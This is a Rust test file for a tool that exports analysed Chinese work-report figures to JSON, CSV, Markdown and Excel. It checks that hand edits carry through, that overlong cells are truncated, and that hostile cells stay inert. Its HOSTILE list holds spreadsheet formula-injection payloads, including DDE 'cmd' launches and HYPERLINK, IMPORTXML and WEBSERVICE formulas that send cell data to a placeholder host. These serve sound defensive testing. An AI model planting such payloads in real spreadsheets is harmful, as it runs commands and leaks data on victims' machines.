//! What is exported says the same in every format, carries what a reader mended by hand, and runs nowhere.

use calamine::{Data, Reader, Xlsx};
use std::fmt::Write as _;
use std::io::Cursor;
use std::path::Path;
use std::process::Command;
use wenheng_core::export::{self, Cell, Table};
use wenheng_core::{Analysis, Edit, Options};
use wenheng_tests::analyze;
use wenheng_tests::laws::exported;

const REPORT: &str = "某街道2023年工作总结\n一、矛盾化解\n全年共调处矛盾纠纷1495宗，成功化解1466宗，化解率为98.06%。\n\
                      二、项目建设\n完成投资8.61亿元，新增绿地0.35万平方米，名列全市第3名。\n四、隐患排查\n\
                      排查隐患1920处，其中消防隐患1135处、燃气隐患486处、施工隐患352处。受理\u{200b}信访438件，办结412件，办结率96.5%。";

fn read(text: &str) -> Analysis {
    analyze(text.as_bytes(), &Options::default()).expect("text")
}

/// A report whose reader renamed its second figure and struck out its first.
fn mended(name: &str) -> Analysis {
    let mut analysis = read(REPORT);
    analysis.edit(vec![
        Edit { id: 1, name: Some(name.to_owned()), struck: false },
        Edit { id: 0, name: None, struck: true },
        Edit { id: usize::MAX, name: None, struck: true },
    ]);
    analysis
}

/// CSV as records, without the byte order mark.
fn records(csv: &str) -> Vec<Vec<String>> {
    let mut reader =
        csv::ReaderBuilder::new().has_headers(false).from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
    reader.records().map(|record| record.expect("CSV").iter().map(str::to_owned).collect()).collect()
}

fn workbook(analysis: &Analysis) -> Vec<u8> {
    wenheng_xlsx::workbook(&export::tables_json(analysis)).expect("tables")
}

#[test]
fn what_was_mended_by_hand_is_exported_and_says_so() {
    let found = read(REPORT);
    let analysis = mended("化解的纠纷");
    let was = &found.indicators[1].name;

    let json: serde_json::Value = serde_json::from_str(&export::json(&analysis)).expect("JSON");
    assert_eq!(json["indicators"].as_array().expect("a list").len(), found.indicators.len());
    assert_eq!(json["indicators"][0]["edited"], serde_json::json!({ "struck": true }));
    assert_eq!(json["indicators"][1]["edited"], serde_json::json!({ "name": was }));
    assert_eq!(json["indicators"][1]["name"], "化解的纠纷");
    assert!(json["indicators"][2].get("edited").is_none());
    assert!(!export::json(&found).contains("edited"));

    let table = records(&export::csv(&analysis));
    assert_eq!(table.len(), found.indicators.len(), "a header, and one row less");
    assert_eq!(table[0].last().expect("cells"), "人工修改");
    assert_eq!((table[1][0].as_str(), table[1][1].as_str()), ("2", "化解的纠纷"));
    assert_eq!(*table[1].last().expect("cells"), format!("原为“{was}”"));
    assert_eq!(records(&export::csv(&found))[0].len() + 1, table[0].len());

    let markdown = export::markdown(&analysis);
    assert!(markdown.contains(&format!("| 化解的纠纷（原为“{was}”） | 1466宗 |")), "{markdown}");
    assert!(!markdown.contains(&format!("| {} |", found.indicators[0].name)));
    assert!(markdown.contains(&format!("\n- ~~{} 1495宗~~\n", found.indicators[0].name)));
    assert!(!export::markdown(&found).contains("人工修改"));
}

#[test]
fn an_edited_name_remembers_the_one_that_was_found() {
    let mut analysis = mended("甲");
    analysis.edit(vec![Edit { id: 1, name: Some("乙".to_owned()), struck: true }]);
    let edited = analysis.indicators[1].edited().expect("edited");
    assert_eq!(edited.name.as_deref(), Some(&*read(REPORT).indicators[1].name));
    assert!(edited.struck && &*analysis.indicators[1].name == "乙");
}

#[test]
fn markdown_has_the_figures_below_their_sections() {
    let markdown = export::markdown(&read(REPORT));
    let (_, list) = markdown.split_once("\n## 分节指标\n\n").expect("the section");
    let lines: Vec<_> = list.lines().collect();
    assert_eq!(lines[0], "- 一、矛盾化解");
    assert!(lines[1].starts_with("  - **1495宗** "), "{}", lines[1]);
    let analysis = read(REPORT);
    let figures = lines.iter().filter(|line| line.contains("**")).count();
    assert_eq!(figures, analysis.indicators.len());
}

/// Every value of the tables, in the workbook, as what it is.
#[test]
fn a_workbook_reads_back_as_the_tables_it_was_made_of() {
    for analysis in [read(REPORT), mended("=SUM(A1:A9)"), read("平稳。")] {
        let mut book = Xlsx::new(Cursor::new(workbook(&analysis))).expect("a workbook");
        let tables = export::tables(&analysis);
        assert_eq!(book.sheet_names(), tables.iter().map(|table| table.name).collect::<Vec<_>>());
        for Table { name, columns, rows } in &tables {
            let range = book.worksheet_range(name).expect("the sheet");
            assert_eq!(range.get_size().0, rows.len() + 1, "{name}");
            let at =
                |row: usize, column: usize| range.get_value((row as u32, column as u32)).cloned().unwrap_or_default();
            for (column, title) in columns.iter().enumerate() {
                assert_eq!(at(0, column), Data::String(title.title.to_owned()));
            }
            for (row, cells) in rows.iter().enumerate() {
                assert_eq!(cells.len(), columns.len(), "{name}");
                for (column, cell) in cells.iter().enumerate() {
                    let expected = match cell {
                        Cell::Empty => Data::Empty,
                        Cell::Text(text) => Data::String(text.clone()),
                        Cell::Number(value) => Data::Float(value.to_string().parse().expect("a number")),
                    };
                    assert_eq!(at(row + 1, column), expected, "{name}, row {row}, {}", columns[column].title);
                }
            }
        }
    }
    assert_eq!(workbook(&read(REPORT)), workbook(&read(REPORT)), "the same bytes twice");
}

#[test]
fn numbers_are_numbers_and_identifiers_are_text() {
    let tables = export::tables(&read(REPORT));
    let cell = |table: usize, row: usize, title: &str| {
        let Table { columns, rows, .. } = &tables[table];
        rows[row][columns.iter().position(|column| column.title == title).expect("the column")].clone()
    };
    let number = |digits: &str| Cell::Number(digits.parse().expect("a number"));
    let text = |text: &str| Cell::Text(text.to_owned());
    assert_eq!((cell(0, 2, "数值"), cell(0, 2, "单位")), (number("98.06"), text("%")));
    assert_eq!((cell(0, 3, "数值"), cell(0, 3, "单位")), (number("861000000"), text("元")));
    assert!(matches!(cell(2, 0, "标识"), Cell::Text(hex) if hex.len() == 16));
    assert_eq!(cell(2, 0, "结论"), text("不符"));
    assert!(tables[2].rows.iter().any(|row| row[1] == text("编号") && row[3] == text("三、")));
    assert!(tables[3].rows.iter().any(|row| row[0] == text("零宽字符") && row[2] == text("U+200B")));
}

#[test]
fn what_a_sheet_cannot_hold_is_cut_and_says_so() {
    let long = "长".repeat(40_000);
    let just = "长".repeat(32_767);
    let odd = "_x0041_\u{1}\u{7}\t甲\r\n乙<&>\"'";
    let json = serde_json::json!([{ "name": "甲", "columns": [{ "title": "乙", "width": 9 }],
        "rows": [[long], [just], ["𠮷".repeat(20_000)], [odd], [123456789012345.0], [null]] }]);
    let bytes = wenheng_xlsx::workbook(&json.to_string()).expect("tables");
    let range = Xlsx::new(Cursor::new(bytes)).expect("a workbook").worksheet_range("甲").expect("the sheet");
    let units = |row| match range.get_value((row, 0)) {
        Some(Data::String(text)) => (text.encode_utf16().count(), text.ends_with('…')),
        other => panic!("{other:?}"),
    };
    assert_eq!(units(1), (32_767, true));
    assert_eq!(units(2), (32_767, false));
    assert_eq!(units(3), (32_767, true));
    assert_eq!(range.get_value((4, 0)), Some(&Data::String(odd.to_owned())));
    assert_eq!(range.get_value((5, 0)), Some(&Data::Float(123456789012345.0)));
    assert!(wenheng_xlsx::workbook("[1]").is_err() && wenheng_xlsx::workbook("").is_err());
}

/// What spreadsheets have run, or been made to run, from a cell.
const HOSTILE: [&str; 20] = [
    "=1+1",
    "=cmd|'/C calc'!A0",
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"点\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "+1+cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+9)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=IMPORTXML(CONCAT(\"http://x.invalid/\",A1),\"//a\")",
    "\"=1+1",
    "=WEBSERVICE(\"http://x.invalid\")",
    "@",
    "{=1+1}",
    ",=1+1",
];

/// Hostile cells by both ways in: 1,000 names given by hand, and 1,000 lines of text that make names, sections and evidence.
#[test]
fn hostile_cells_run_nowhere() {
    let payload = |i: usize| HOSTILE[i % HOSTILE.len()].replace('x', &format!("x{i}"));
    let mut text = String::from("某街道2023年工作总结\n");
    for i in 0..1000 {
        if i % 10 == 0 {
            writeln!(text, "{}、{}整治", i / 10 + 1, payload(i / 10)).expect("a string takes it");
        }
        writeln!(text, "{}整治隐患{}处。", payload(i), i + 10).expect("a string takes it");
    }
    let mut analysis = read(&text);
    assert!(analysis.indicators.len() >= 1000, "{}", analysis.indicators.len());
    for renamed in [false, true] {
        if renamed {
            let edit = |id: usize| Edit { id, name: Some(payload(id)), struck: false };
            analysis.edit((0..analysis.indicators.len()).map(edit).collect());
        }
        exported(&analysis);
    }
}

/// LibreOffice opens the workbook and reads in it what the tables hold.
#[test]
fn libreoffice_reads_the_same_values() {
    let Some(office) = ["soffice", "libreoffice"]
        .into_iter()
        .find(|name| Command::new(name).arg("--version").output().is_ok_and(|output| output.status.success()))
    else {
        eprintln!("skipped: no LibreOffice here (Debian: libreoffice-calc-nogui)");
        return;
    };
    let folder = std::env::temp_dir().join(format!("wenheng-exports-{}", std::process::id()));
    std::fs::create_dir_all(&folder).expect("a folder");
    let analysis = mended("=SUM(A1:A9)");
    std::fs::write(folder.join("x.xlsx"), workbook(&analysis)).expect("a file");
    let converted = Command::new(office)
        .arg(format!("-env:UserInstallation=file://{}", folder.join("profile").display()))
        // Commas, quotes, UTF-8, and every sheet as a file; cells as they are and not as they are shown.
        .args([
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,false,false,false,-1",
        ])
        .arg("--outdir")
        .args([&folder, &folder.join("x.xlsx")])
        .output()
        .expect("LibreOffice");
    for Table { name, columns, rows } in export::tables(&analysis) {
        let file: &Path = &folder.join(format!("x-{name}.csv"));
        let csv = std::fs::read_to_string(file).unwrap_or_else(|error| panic!("{name}: {error}, {converted:?}"));
        let read = records(&csv);
        assert_eq!(read.len(), rows.len() + 1, "{name}");
        assert!(read[0].iter().eq(columns.iter().map(|column| column.title)), "{name}");
        for (cells, read) in rows.iter().zip(&read[1..]) {
            for (cell, read) in cells.iter().zip(read) {
                match cell {
                    Cell::Empty => assert_eq!(read, ""),
                    Cell::Text(text) => assert_eq!(read, text),
                    Cell::Number(value) => assert_eq!(read.parse(), Ok(value.normalize()), "{name}"),
                }
            }
        }
    }
    std::fs::remove_dir_all(&folder).expect("the folder");
}
